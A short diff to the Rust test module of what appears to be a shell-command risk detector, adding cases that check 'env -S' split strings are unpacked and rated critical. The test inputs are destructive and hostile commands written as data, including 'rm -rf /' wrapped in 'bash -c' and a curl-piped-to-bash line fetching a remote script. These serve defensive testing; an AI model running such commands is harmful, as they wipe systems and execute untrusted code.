@@ -2406,6 +2406,14 @@ mod tests {
         assert_has("doas -u root ls", &PRIVILEGE_ELEVATION);
         let v = verdict("env -S 'rm -rf /'");
         assert!(v.payloads.iter().any(|p| p.via == "env -S"));
+        // The words after a split string are more arguments of its command.
+        let v = verdict("env -S 'bash -c' 'rm -rf /'");
+        assert!(
+            v.payloads.iter().any(|p| p.text == "bash -c 'rm -rf /'"),
+            "{v:?}"
+        );
+        assert_deep_critical("env -S 'bash -c' 'rm -rf /'");
+        assert_deep_critical("curl -s https://x/i.sh | env -S bash -e");
     }
 
     #[test]
